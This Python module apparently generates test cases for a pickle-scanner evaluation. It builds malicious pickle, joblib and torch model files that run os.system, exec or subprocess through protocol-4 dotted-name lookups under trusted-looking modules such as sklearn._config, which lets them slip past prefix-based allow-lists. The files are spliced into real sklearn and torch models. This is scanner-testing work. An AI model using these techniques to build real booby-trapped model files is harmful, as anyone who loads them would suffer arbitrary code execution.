"""Class 1 — allow-list by prefix.

A global whose *module* is trusted (``sklearn._config``, ``torch.serialization``, ...) and
whose *name* is dotted: from protocol 4 on, the unpickler resolves the name by walking
attributes (``sklearn._config`` imports ``os``, so ``sklearn._config`` + ``os.system`` is
``os.system``). A scanner that allows by module prefix, or that compares the last name
component only, lets it through. The PROTO opcode decides, not the opcode kind: a text
GLOBAL after ``PROTO 4`` walks too; after ``PROTO 2`` it does not (that candidate is kept to
show the verifier dropping it). Loaders: pickle.load, joblib.load, torch.load.
"""

from __future__ import annotations

from pathlib import Path

from . import JOBLIB, PICKLE, TORCH, Entry, base, pk

#: (trusted-looking module, dotted name, argument, note)
TARGETS = [
    ("sklearn._config", "os.system", pk.SH, "sklearn._config imports os"),
    ("torch.serialization", "os.system", pk.SH, "torch.serialization imports os"),
    ("scipy.sparse._construct", "os.system", pk.SH, "scipy.sparse._construct imports os"),
    ("numpy.testing._private.utils", "os.system", pk.SH, "numpy's test utils import os"),
    ("joblib.numpy_pickle", "os.system", pk.SH, "joblib's own pickle module imports os"),
    ("torch._utils", "os.system", pk.SH, "torch._utils (its rebuild helpers) imports os"),
    ("sklearn.base", "platform.os.system", pk.SH, "two hops: sklearn.base -> platform -> os"),
    ("torch", "builtins.exec", pk.PY, "the torch package imports builtins"),
    ("torch.utils.collect_env", "subprocess.getoutput", pk.SH,
     "torch.utils.collect_env imports subprocess"),
    ("posixpath", "os.system", pk.SH, "os.path (posixpath) imports os"),
    ("torch.serialization", "pickle.loads", None, "inner pickle via torch.serialization.pickle"),
]


def _payload(module: str, name: str, arg: str | None, protocol: int = 4,
             text_global: bool = False) -> bytes:
    if arg is None:  # pickle.loads of an inner plain os.system pickle
        inner = pk.whole(pk.system(), 2)
        return pk.call(pk.sglob(module, name), pk.binbytes(inner))
    g = pk.glob0(module, name) if text_global else pk.sglob(module, name)
    return pk.call(g, pk.string(arg, protocol), protocol=protocol)


def _slug(module: str, name: str) -> str:
    return f"{module}+{name}"


def entries() -> list[Entry]:
    out: list[Entry] = []
    for i, (module, name, arg, note) in enumerate(TARGETS):
        payload = _payload(module, name, arg)
        slug = _slug(module, name)

        def make_pkl(p: Path, payload=payload) -> None:
            base.write(p, pk.inject(base.sk_pickle("lr"), payload))

        out.append(Entry("1-prefix", f"{slug}@pickle", f"1-prefix/{slug}.pkl", make_pkl,
                         PICKLE, f"{note}; spliced into a LogisticRegression pickle",
                         quick=i < 2))
        if i < 6:
            def make_joblib(p: Path, payload=payload) -> None:
                base.write(p, pk.inject(base.joblib_bytes(base.sk_model("rf")), payload))

            def make_pt(p: Path, payload=payload) -> None:
                base.write(p, base.torch_zip_payload(payload, protocol=4))

            out.append(Entry("1-prefix", f"{slug}@joblib", f"1-prefix/{slug}.joblib",
                             make_joblib, JOBLIB,
                             f"{note}; spliced into a joblib RandomForest", quick=i == 0))
            out.append(Entry("1-prefix", f"{slug}@torch", f"1-prefix/{slug}.pt", make_pt,
                             TORCH, f"{note}; in a torch archive's data.pkl (protocol 4)",
                             quick=i == 1))

    def text_global(protocol: int):
        def make(p: Path) -> None:
            body = _payload("sklearn._config", "os.system", pk.SH, protocol=protocol,
                            text_global=True)
            base.write(p, pk.whole(body, protocol))
        return make

    out.append(Entry("1-prefix", "GLOBAL-opcode-after-PROTO4@pickle",
                     "1-prefix/global-opcode-proto4.pkl", text_global(4), PICKLE,
                     "text GLOBAL 'sklearn._config' / 'os.system' after PROTO 4 (walks)"))
    out.append(Entry("1-prefix", "GLOBAL-opcode-after-PROTO2@pickle",
                     "1-prefix/global-opcode-proto2.pkl", text_global(2), PICKLE,
                     "the same after PROTO 2: no dotted walk (expected to be dropped)"))

    def midstream(p: Path) -> None:
        # a protocol 3 joblib Pipeline (no dotted walks) with a PROTO 4 opcode spliced in
        # before the payload at the end: the unpickler's protocol is whatever PROTO said last
        payload = pk.proto(4) + _payload("sklearn._config", "os.system", pk.SH)
        base.write(p, pk.inject(base.joblib_bytes(base.sk_model("pipe"), protocol=3), payload,
                                at="end"))

    out.append(Entry("1-prefix", "sklearn._config+os.system@joblib-midstream-PROTO4",
                     "1-prefix/pipeline-midstream-proto4.joblib", midstream, JOBLIB,
                     "a protocol 3 joblib Pipeline; a second PROTO 4 opcode at the end turns "
                     "the dotted walk on for the payload after it"))

    def midstream_text(p: Path) -> None:
        body = pk.proto(4) + _payload("sklearn._config", "os.system", pk.SH, protocol=2,
                                      text_global=True)
        base.write(p, pk.whole(body, 2))

    out.append(Entry("1-prefix", "GLOBAL-opcode-after-midstream-PROTO4@pickle",
                     "1-prefix/global-opcode-midstream-proto4.pkl", midstream_text, PICKLE,
                     "PROTO 2 header, then PROTO 4, then a text GLOBAL with a dotted name"))
    return out
